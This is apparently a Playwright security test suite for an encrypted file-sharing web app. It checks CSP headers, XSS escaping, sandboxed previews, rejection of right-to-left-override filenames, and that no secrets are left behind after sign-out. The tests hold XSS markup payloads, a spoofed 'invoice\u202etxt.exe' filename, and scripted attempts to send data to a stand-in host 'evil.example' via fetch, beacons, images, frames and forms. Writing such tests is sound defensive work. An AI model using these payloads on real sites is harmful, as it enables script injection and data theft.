"""What a page can be made to run, to fetch, to leave behind, and to give away."""

import re

import httpx
import pytest
from playwright.sync_api import Error, expect

from strongroom.host.share.page import POLICY, PREVIEW_POLICY
from tests.browser.behind import Held
from tests.browser.looks import too_wide
from tests.browser.people import PATIENCE

BOB = "bob@example.com"
POLICY_ON_PAGES = (
    "default-src 'none'; script-src 'self'; worker-src 'self'; connect-src 'self'; img-src 'self' blob:; "
    "style-src 'self'; font-src 'self'; manifest-src 'self'; frame-src 'self'; base-uri 'none'; form-action 'none'; "
    "frame-ancestors 'none'; require-trusted-types-for 'script'; trusted-types strongroom-worker"
)
VIEWS = ("#/", "#/request", "#/shares", "#/passkey", "#/verify", "#/s/" + "1" * 32, "#/r/" + "2" * 32, "#/nothing")
TATTLE = """document.addEventListener("securitypolicyviolation", (event) =>
  console.error("violation", event.violatedDirective, event.blockedURI));"""
MARKUP = "<img src=x onerror=globalThis.owned=1><script>globalThis.owned=1</script>"
BACKWARDS = "invoice\u202etxt.exe"


def file(tmp_path, name="report.txt", data=b"F-01 critical\n"):
    path = tmp_path / name
    path.write_bytes(data)
    return path


def complaints(somebody):
    """What the console said beyond plain remarks."""
    return [line for line in somebody.said if not line.startswith(("log:", "info:", "debug:"))]


# --- policies -------------------------------------------------------------------------------------------------


def test_every_answer_of_the_host_has_a_strict_policy(site):
    assert POLICY == POLICY_ON_PAGES
    listed = httpx.get(f"{site.origin}/page.json", trust_env=False).json()["files"]
    paths = ["", "callback", "callback/", "preview/", "page.json", "trust.json", "health", "nothing", *listed]
    paths += ["vault/v1/evidence", "authenticator/0/v1/evidence", "blobs/" + "0" * 32, "abuse"]
    with httpx.Client(base_url=site.origin, trust_env=False) as client:
        for path in paths:
            headers = client.get(f"/{path}").headers
            page = path in ("", "callback", "callback/", "page.json", "trust.json", *listed)
            expected = PREVIEW_POLICY if path.startswith("preview") else POLICY if page else None
            policy = headers["content-security-policy"]
            assert policy == expected or (
                expected is None and "default-src 'none'" in policy and "sandbox" in policy
            ), path
            assert headers["x-content-type-options"] == "nosniff", path
            assert headers["referrer-policy"] == "no-referrer", path


def test_no_view_breaks_its_policy_and_none_asks_anybody_else(person, site):
    alice = person("alice")
    alice.context.add_init_script(TATTLE)
    for place in VIEWS:
        alice.go(place)
        expect(alice.page.locator(".badge")).to_have_attribute("data-state", "verified", timeout=PATIENCE)
        expect(alice.page.locator("main h1")).to_be_visible()
    assert complaints(alice) == []
    assert {url for url in alice.requests if not url.startswith((site.origin, "about:"))} == set()


VIOLATED = """attempt => new Promise((resolve) => {
  document.addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective), { once: true });
  const attempts = {
    "a text as code": () => setTimeout("globalThis.owned = 1"),
    "markup": () => { document.body.innerHTML = "<b>1</b>"; },
    "a worker of a blob": () => new Worker(URL.createObjectURL(new Blob(["1"]))),
    "an inline script": () => document.body.append(
      Object.assign(document.createElement("script"), { textContent: "globalThis.owned = 1" })),
    "an inline style": () => document.body.append(
      Object.assign(document.createElement("style"), { textContent: "body { color: red }" })),
    "a policy of its own": () => trustedTypes.createPolicy("mine", { createHTML: (text) => text }),
    "a request": () => fetch("https://evil.example/").catch(() => 0),
    "a socket": () => new WebSocket("wss://evil.example/"),
    "a beacon": () => navigator.sendBeacon("https://evil.example/"),
    "a picture": () => { new Image().src = "https://evil.example/"; },
    "a frame": () => document.body.append(
      Object.assign(document.createElement("iframe"), { src: "https://evil.example/" })),
    "a form": () => {
      const form = Object.assign(document.createElement("form"), { action: "https://evil.example/" });
      document.body.append(form);
      form.submit();
    },
    "another base": () => document.head.append(
      Object.assign(document.createElement("base"), { href: "https://evil.example/" })),
  };
  try { attempts[attempt](); } catch (error) { console.debug(error); }
})"""
ATTEMPTS = {
    "a text as code": "require-trusted-types-for",
    "markup": "require-trusted-types-for",
    "a worker of a blob": "require-trusted-types-for",
    "an inline script": "require-trusted-types-for",
    "an inline style": "style-src-elem",
    "a policy of its own": "trusted-types",
    "a request": "connect-src",
    "a socket": "connect-src",
    "a beacon": "connect-src",
    "a picture": "img-src",
    "a frame": "frame-src",
    "a form": "form-action",
    "another base": "base-uri",
}


def test_a_script_that_got_in_finds_every_way_further_closed(person):
    alice = person("alice")
    failures = []
    alice.context.on("requestfailed", lambda request: failures.append((request.url, request.failure)))
    alice.go("#/")
    for attempt, directive in ATTEMPTS.items():
        alice.page.reload()
        alice.sees("Send files that only they can open")
        assert (attempt, alice.page.evaluate(VIOLATED, attempt)) == (attempt, directive)
        assert alice.page.evaluate("globalThis.owned") is None
    # the browser begins with a frame and drops it before anything leaves: that it calls a failure by policy
    begun = [url for url in alice.requests if "evil.example" in url]
    assert [failure for failure in failures if "evil.example" in failure[0]] == [(url, "csp") for url in begun]


# --- what senders write ---------------------------------------------------------------------------------------


def test_markup_in_title_message_and_names_is_text(person, tmp_path):
    name = "<img src=x onerror=globalThis.owned=1>.txt"
    alice = person("alice", viewport={"width": 390, "height": 844})
    link = alice.send([file(tmp_path, name)], [BOB], title=MARKUP, message=f"{MARKUP}\n" * 30)
    bob = person("bob", viewport={"width": 390, "height": 844})
    bob.open(link)
    bob.opened(MARKUP)
    expect(bob.page.locator(".message")).to_contain_text(MARKUP)
    bob.click(f"Look at {name}")
    expect(bob.page.locator(".preview-shown")).to_be_visible(timeout=PATIENCE)
    for somebody in (alice, bob):
        assert somebody.page.locator("main img, main script").count() == 0
        assert somebody.page.evaluate("globalThis.owned") is None
        assert too_wide(somebody.page) == []
    assert complaints(bob) == []


def test_a_name_that_hides_what_a_file_is_is_not_sent(person, tmp_path):
    """Shown from right to left in its end, `invoice\\u202etxt.exe` reads as a text."""
    alice = person("alice")
    alice.go("#/")
    alice.write([file(tmp_path, BACKWARDS)], [BOB])
    alice.click("Encrypt and send")
    alice.sees("invoice[U+202E]txt.exe")
    expect(alice.page.get_by_role("button", name="Encrypt and send")).to_be_visible()


def test_a_title_that_turns_text_round_names_no_archive(person, tmp_path):
    title = "Figures \u202egpj.exe"
    link = person("alice").send([file(tmp_path), file(tmp_path, "b.txt")], [BOB], title=title)
    bob = person("bob")
    bob.open(link)
    bob.opened(title)
    with bob.page.expect_download(timeout=PATIENCE) as coming:
        bob.click("Download all")
    assert coming.value.suggested_filename == "Figures gpj.exe.zip"


# --- previews -------------------------------------------------------------------------------------------------


@pytest.fixture
def frame(person, tmp_path):
    """Bob looks at a file: the frame that draws it."""
    files = [file(tmp_path, "page.html", MARKUP.encode()), file(tmp_path, "drawing.svg", b"<svg onload='x'/>")]
    link = person("alice").send(files, [BOB], title="Report")
    bob = person("bob")
    bob.context.add_init_script(TATTLE)
    bob.open(link)
    bob.opened("Report")
    expect(bob.page.get_by_role("button", name="Look at drawing.svg")).to_have_count(0)
    bob.click("Look at page.html")
    expect(bob.page.frame_locator("iframe.preview-frame").locator("pre")).to_have_text(MARKUP, timeout=PATIENCE)
    (found,) = [each for each in bob.page.frames if each.url.endswith("/preview/")]
    return found


OPEN_DATABASE = """new Promise((done) => {
  try {
    const opening = indexedDB.open("strongroom");
    opening.onerror = () => done("refused");
    opening.onsuccess = () => done("open");
  } catch {
    done("refused");
  }
})"""


def test_a_preview_shows_html_as_text_and_reaches_neither_page_nor_network(frame, site):
    assert frame.evaluate("globalThis.owned") is None
    assert frame.evaluate("self.origin") == "null"
    for secret in ("parent.document.body", "parent.location.href", "localStorage.length", "document.cookie"):
        with pytest.raises(Error, match=r"SecurityError|Blocked a frame|sandboxed"):
            frame.evaluate(secret)
    assert frame.evaluate(OPEN_DATABASE) == "refused"
    for url in (f"{site.origin}/trust.json", "https://evil.example/", f"{site.origin}/assets/x"):
        assert (
            frame.evaluate("url => fetch(url, {mode: 'no-cors'}).then(() => 'sent', () => 'refused')", url) == "refused"
        )
    for leak in ("img", "iframe", "link", "script", "object"):
        assert (
            frame.evaluate(
                """name => new Promise((done) => {
              document.addEventListener("securitypolicyviolation", () => done("refused"), { once: true });
              const made = document.createElement(name);
              if (name === "link") made.rel = "stylesheet";
              const place = { link: "href", object: "data" }[name] ?? "src";
              try { made[place] = "https://evil.example/?secret"; } catch { done("refused"); }
              document.body.append(made);
            })""",
                leak,
            )
            == "refused"
        ), leak
    assert frame.evaluate("window.open('https://evil.example/')") is None
    with pytest.raises(Error):
        frame.evaluate("top.location = 'https://evil.example/'")


# --- what stays -----------------------------------------------------------------------------------------------

DUMP = """async () => {
  const found = { local: { ...localStorage }, session: { ...sessionStorage }, cookies: document.cookie, keys: {} };
  found.caches = [];
  for (const name of await caches.keys()) found.caches.push(...(await (await caches.open(name)).keys()).map(String));
  for (const { name, version } of await indexedDB.databases()) {
    const database = await new Promise((done, fail) => {
      const opening = indexedDB.open(name, version);
      opening.onsuccess = () => done(opening.result);
      opening.onerror = fail;
    });
    for (const store of database.objectStoreNames) {
      const of = database.transaction(store).objectStore(store);
      const all = (request) => new Promise((done) => { request.onsuccess = () => done(request.result); });
      const [names, values] = [await all(of.getAllKeys()), await all(of.getAll())];
      found.keys[store] = {};
      for (const [at, each] of names.entries()) {
        const value = values[at];
        if (value?.privateKey === undefined) { found.keys[store][each] = value; continue; }
        const read = ["pkcs8", "jwk"].map((format) => crypto.subtle.exportKey(format, value.privateKey));
        found.keys[store][each] = await Promise.any(read).then(() => "readable", () => "sealed");
      }
    }
    database.close();
  }
  return found;
}"""


def test_after_signing_out_the_browser_holds_no_secret_and_a_key_that_nobody_reads(person, site, tmp_path):
    alice = person("alice")
    link = alice.send([file(tmp_path)], [BOB], title="Marker-title", message="Marker-message")
    alice.page.locator(".account summary").click()
    alice.click("Sign out")
    expect(alice.page.locator(".account")).to_have_count(0)
    left = alice.page.evaluate(DUMP)
    keys = left["keys"].pop("keys")
    assert keys.pop("binding key") == "sealed"
    assert set(keys) == {"site statement"}
    assert left["keys"].pop("sign-ins") == {}
    assert (left["cookies"], left["session"], left["caches"]) == ("", {}, [])
    assert set(left["local"]) <= {"strongroom.language", "strongroom.appearance"}
    alice.turn_to("#/shares")
    expect(alice.page.get_by_text("Marker-title")).to_have_count(0)
    bob = person("bob")
    bob.open(link)
    bob.opened("Marker-title")
    assert bob.download("Download") == b"F-01 critical\n"
    assert set(bob.page.evaluate(DUMP)["keys"]["sign-ins"]) == set()


def test_the_host_keeps_and_hears_sizes_and_ids_only(person, site, tmp_path):
    """Titles, messages, names, addresses and keys: not on its disk, not in what it is sent, not in an address."""
    marks = [
        "Zanzibar-title",
        "Quokka-message",
        "narwhal-name",
        "bob@example.com",
        "alice@example.com",
        "AGE-SECRET-KEY",
        "age1pq",
    ]
    alice, bob = person("alice"), person("bob")
    heard = []
    for somebody in (alice, bob):
        somebody.context.on(
            "request", lambda request: heard.append(request) if request.url.startswith(site.origin) else None
        )
    held = Held(site)
    link = alice.send([file(tmp_path, "narwhal-name.txt")], [BOB], title="Zanzibar-title", message="Quokka-message")
    bob.open(link)
    bob.opened("Zanzibar-title")
    bob.download("Download")
    told = []
    for request in heard:
        head = (request.url.partition("#")[0], *request.headers.values())
        told += [*(text.encode() for text in head), request.post_data_buffer or b""]
    places = [*held.parts]  # other tests' blobs may be large
    for role in ("share", "vault", "authenticator"):
        places += [path for path in (site.servers / role).rglob("*") if path.is_file() and "blobs" not in path.parts]
    stored = [path.read_bytes() for path in places]
    assert len(told) > 50
    assert len(stored) > 5
    for mark in marks:
        assert [text[:80] for text in told + stored if mark.lower().encode() in text.lower()] == [], mark
    # the number in the link is the Vault's: the share server does not even hear it
    record = link.rpartition("/")[2].encode()
    assert [text[:80] for text in told if record in text] == []
    assert re.fullmatch(rf"{re.escape(site.origin)}/#/s/[0-9a-f]{{32}}", link)
